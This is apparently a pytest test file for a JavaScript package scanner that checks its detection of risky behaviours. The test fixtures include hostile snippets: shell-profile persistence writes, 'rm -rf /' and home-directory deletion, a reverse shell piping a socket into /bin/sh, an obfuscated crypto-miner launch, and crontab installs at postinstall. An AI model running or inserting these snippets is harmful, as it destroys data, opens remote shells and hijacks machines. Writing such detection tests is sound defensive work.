from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.javascript.acts import AT_LOAD, DETACHED, MAX_ACTS, TIED
from assay.javascript.alarm_words import has_alarms
from assay.javascript.read import read
from assay.model.source import Behaviour, BehaviourKind


def acts(code: str, *reached_by: str) -> tuple[Behaviour, ...]:
    return read("a.js", code.encode(), reached_by).behaviours


@pytest.mark.parametrize(
    ("code", "kind", "text"),
    [
        ("require('fs').appendFileSync(h + '/.bashrc', 'x')", BehaviourKind.FILE_WRITE, ".bashrc"),
        ("import { writeFile as w } from 'fs/promises'; w(`${h}/.zshrc`, 'x')", BehaviourKind.FILE_WRITE, ".zshrc"),
        ("const fs = require('fs'); fs.writeFileSync(`${h}/.zshrc`, 'x')", BehaviourKind.FILE_WRITE, ".zshrc"),
        ("const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'])", BehaviourKind.PROCESS, "rm -rf /"),
        ("require('fs').copyFileSync('a', '.vscode/tasks.json')", BehaviourKind.FILE_WRITE, ".vscode/tasks.json"),
        ("const os = require('os'); require('fs').rmSync(os.homedir(), {})", BehaviourKind.FILE_DELETE, "~"),
        ("fetch('https://api.npoint.io/0')", BehaviourKind.NETWORK, "https://api.npoint.io/0"),
        (
            "const u = ['https://paste', 'bin.com/raw/0'].join(''); fetch(u); 'bsc-dataseed'",
            BehaviourKind.NETWORK,
            "raw",
        ),
    ],
)
def test_a_call_is_told_with_the_text_that_it_is_given(code: str, kind: BehaviourKind, text: str) -> None:
    (told,) = (each for each in acts(code) if each.kind is kind)
    assert text in told.decoded


def test_what_runs_on_installation_is_followed_though_no_word_of_it_alarms() -> None:
    code = "const cp = require('child_process'); cp.exec(['cron', 'tab -'].join(''))"
    assert acts(code) == ()
    (act,) = acts(code, "postinstall")
    assert act.decoded == "crontab -"


def test_a_process_that_lives_on_and_a_shell_on_a_connection_are_told() -> None:
    (act,) = acts("require('child_process').spawn('node', ['x.js'], { detached: true })")
    assert act.detail.endswith(DETACHED + AT_LOAD)
    (act,) = acts("exports.f = () => require('child_process').spawn('node', ['x.js'], { detached: true })")
    assert act.detail.endswith(DETACHED)
    code = (
        "const s = require('net').connect(1, 'h'); const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)"
    )
    assert any(each.detail.endswith(TIED) for each in acts(code))
    assert not any(each.detail.endswith(TIED) for each in acts(f"{code}; require('net').createServer()"))


def test_names_kept_in_escapes_are_seen() -> None:
    code = "const c = require('child\\x5f\\x70\\x72\\x6fcess'); c['\\x65\\x78\\x65\\x63']('xmrig -o pool')"
    assert [each.decoded for each in acts(code)] == ["xmrig -o pool"]


def test_acts_are_bounded() -> None:
    code = "const cp = require('child_process');\n" + "cp.exec('crontab -');\n" * 300
    assert len(acts(code)) == MAX_ACTS


@pytest.mark.parametrize(
    "code",
    [
        "const text = 'crontab'",
        "const fs = require('fs'); fs.readFileSync('a')",
        "const host = 'webhook.site'",
        "fetch('https://assets.invalid/a.png')",
    ],
)
def test_a_word_alone_is_no_alarm(code: str) -> None:
    assert not has_alarms(code.encode())


@given(st.text(max_size=200), st.sampled_from(["postinstall", "main"]))
def test_any_text_is_read(text: str, entry: str) -> None:
    code = f"const cp = require('child_process'); cp.exec({text}); fetch(`{text}`); require('fs').rmSync({text!r})"
    for each in acts(code, entry):
        assert each.kind in set(BehaviourKind)
